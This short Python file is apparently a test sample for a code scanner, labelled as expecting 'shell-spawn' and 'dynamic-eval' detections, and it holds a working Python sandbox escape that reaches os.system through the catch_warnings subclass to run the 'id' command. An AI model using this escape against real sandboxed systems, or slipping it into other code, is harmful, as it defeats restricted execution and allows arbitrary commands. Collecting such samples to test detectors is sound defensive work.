# expect: shell-spawn,dynamic-eval
# source: PayloadsAllTheThings Python sandbox escapes; HackTricks bypass python sandboxes
# technique: catch_warnings()._module.__builtins__['__import__']('os').system
for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("id")
